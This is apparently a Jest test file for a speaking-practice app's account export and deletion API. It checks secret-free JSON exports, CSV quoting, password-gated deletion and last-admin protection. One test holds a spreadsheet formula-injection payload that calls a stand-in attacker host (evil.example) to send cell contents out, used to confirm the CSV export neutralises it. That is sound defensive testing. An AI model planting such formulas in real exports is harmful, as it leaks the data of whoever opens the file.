import type { AccountExport } from '@speakwell/contracts';
import { runInThisContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { answerDrill, auth, createDrill, createDrillSession, registerAdmin, registerUser, type TestUser } from './support/factories.js';
import { giveOneOfEverything } from './support/one-of-everything.js';
import { setupTestApp } from './support/test-setup.js';

const OWNED_TABLES = ['sessions', 'drills', 'meeting_qas', 'dictionary_entries', 'scripts', 'script_practice_runs'];

describe('My data out, my account gone', () => {
  const { t } = setupTestApp();

  /** A user with one of everything; the topic and answer have what a spreadsheet must quote (a comma, quotes, a line break). */
  async function userWithData(): Promise<{ user: TestUser; drillSessionId: string }> {
    const user = await registerUser(t.http, { name: 'Dana Data' });
    const { drillSessionId } = await giveOneOfEverything(t.http, user, {
      topic: 'Leadership, "quoted"',
      answer: 'When our release slipped, I organised daily check-ins, split the work, and we shipped a week later,\nwith fewer bugs.',
      context: 'We hire five engineers this quarter.',
      question: 'How many engineers?',
      script: 'Good morning everyone',
      word: 'ubiquitous',
    });
    return { user, drillSessionId };
  }

  async function ownedRows(userId: string): Promise<Record<string, number>> {
    const db = t.app.get(DataSource);
    const counts: Record<string, number> = {};
    for (const table of OWNED_TABLES)
      counts[table] = Number(((await db.query(`SELECT count(*) AS n FROM ${table} WHERE user_id = $1`, [userId])) as { n: string }[])[0]?.n);
    return counts;
  }

  /**
   * The deprecation warnings Node emits until `stop`. They go to the real process, which jest's
   * test context hides behind a copy of its own: `runInThisContext` reads it from Node's context.
   */
  function collectDeprecations(): { stop: () => string[] } {
    const realProcess = runInThisContext('process') as NodeJS.Process;
    const seen: string[] = [];
    const listener = (warning: Error): void => {
      if (warning.name === 'DeprecationWarning') seen.push(warning.message);
    };
    realProcess.on('warning', listener);
    return {
      stop: () => {
        realProcess.off('warning', listener);
        return seen;
      },
    };
  }

  it('exports everything the user owns as a JSON download, without secrets', async () => {
    const { user, drillSessionId } = await userWithData();
    const bystander = await userWithData();
    const deprecations = collectDeprecations();
    const res = await t.http.get('/api/user/export').set(auth(user)).expect(200);
    // One query at a time on the export's transaction: node-postgres warns when queries queue on
    // one client, and pg 9 refuses them (the export would fail).
    expect(deprecations.stop()).toEqual([]);
    expect(res.headers['content-disposition']).toContain('attachment');
    const data = res.body as AccountExport;
    expect(data.profile).toMatchObject({ name: 'Dana Data', email: user.email, role: 'user', sign_in: { password: true, google: false } });
    expect(JSON.stringify(data)).not.toMatch(/argon2|password_hash|passwordHash/);
    expect(data.sessions).toHaveLength(2);
    const drills = data.sessions.find((session) => session.id === drillSessionId)?.drills ?? [];
    expect(drills).toHaveLength(1);
    expect(drills[0]).toMatchObject({
      answer: expect.stringContaining('daily check-ins'),
      rating: expect.any(Number),
      feedback: expect.any(String),
      delivery: expect.objectContaining({ duration_seconds: 6, longest_pause_seconds: 2 }),
    });
    expect(data.sessions.find((session) => session.session_type === 'Meeting')?.qas).toEqual([expect.objectContaining({ question: 'How many engineers?' })]);
    expect(data.scripts).toEqual([
      expect.objectContaining({
        title: 'Pitch',
        tags: ['work'],
        practice_runs: [expect.objectContaining({ match_accuracy: 100, delivery: expect.objectContaining({ word_count: 3, longest_pause_seconds: 2 }) })],
      }),
    ]);
    expect(data.dictionary).toEqual([expect.objectContaining({ word: 'ubiquitous' })]);
    // Nothing of the other user's.
    expect(JSON.stringify(data)).not.toContain(bystander.drillSessionId);
  });

  it('exports the drills as CSV that a spreadsheet reads back, quotes and line breaks intact', async () => {
    const { user } = await userWithData();
    const res = await t.http.get('/api/user/export/drills.csv').set(auth(user)).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ topic: 'Leadership, "quoted"', answer: expect.stringContaining('a week later,\nwith fewer bugs.') });
    expect(Number(rows[0]?.rating)).toBeGreaterThanOrEqual(1);
  });

  it('neutralises spreadsheet formulas in the drills CSV: a cell starting with =, +, -, @, tab or CR gets a leading quote', async () => {
    const user = await registerUser(t.http);
    const topic = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const sessionId = await createDrillSession(t.http, user, { topic });
    const answers = ['+1 I led the team', '-2+3 we shipped', '@SUM(A1:A9) on time', '\t=1+2 and fewer bugs', '\r=1+2 a week later'];
    for (const answer of answers) await answerDrill(t.http, user, (await createDrill(t.http, user, sessionId)).drill_id, answer);
    const res = await t.http.get('/api/user/export/drills.csv').set(auth(user)).expect(200);
    // Quoted as well, so a spreadsheet takes the cell as text whatever its separator settings.
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.topic)).toEqual(answers.map(() => `'${topic}`));
    for (const row of rows) expect(row.answer).toMatch(/^'[=+\-@\t\r]/);
    expect(rows.map((row) => row.answer.replace(/^'[\t\r]?/, "'"))).toEqual(
      expect.arrayContaining(["'+1 I led the team", "'-2+3 we shipped", "'@SUM(A1:A9) on time"]),
    );
  });

  it('a wrong password deletes nothing and keeps the session', async () => {
    const { user } = await userWithData();
    const before = await ownedRows(user.id);
    const res = await t.http.delete('/api/user').set(auth(user)).send({ password: 'not my password' }).expect(403);
    expect(res.body).toEqual({ error: expect.stringContaining('Nothing was deleted'), code: 'ACCOUNT_WRONG_PASSWORD', statusCode: 403 });
    await t.http.delete('/api/user').set(auth(user)).send({}).expect(400);
    expect(await ownedRows(user.id)).toEqual(before);
    await t.http.get('/api/user/profile').set(auth(user)).expect(200);
  });

  it('the right password deletes the user and everything they own; their token stops working; others keep theirs', async () => {
    const { user } = await userWithData();
    const bystander = await userWithData();
    const bystanderBefore = await ownedRows(bystander.user.id);
    expect(Object.values(await ownedRows(user.id)).every((count) => count > 0)).toBe(true);

    await t.http.delete('/api/user').set(auth(user)).send({ password: user.password }).expect(204);

    expect(Object.values(await ownedRows(user.id))).toEqual(OWNED_TABLES.map(() => 0));
    const users = (await t.app.get(DataSource).query('SELECT count(*) AS n FROM users WHERE id = $1', [user.id])) as { n: string }[];
    expect(Number(users[0]?.n)).toBe(0);
    await t.http.get('/api/user/profile').set(auth(user)).expect(401);
    await t.http.post('/api/login').send({ email: user.email, password: user.password }).expect(401);
    expect(await ownedRows(bystander.user.id)).toEqual(bystanderBefore);
  });

  it('the last admin cannot delete their own account; with another admin they can', async () => {
    const db = t.app.get(DataSource);
    await db.query(`UPDATE users SET role = 'user' WHERE role = 'admin'`);
    const admin = await registerAdmin(t.http);
    const refused = await t.http.delete('/api/user').set(auth(admin)).send({ password: admin.password }).expect(409);
    expect((refused.body as { error: string }).error).toContain('last admin');
    await t.http.get('/api/user/profile').set(auth(admin)).expect(200);

    await registerAdmin(t.http);
    await t.http.delete('/api/user').set(auth(admin)).send({ password: admin.password }).expect(204);
  });

  it('needs a signed-in user', async () => {
    await t.http.get('/api/user/export').expect(401);
    await t.http.delete('/api/user').send({ password: 'x' }).expect(401);
  });
});
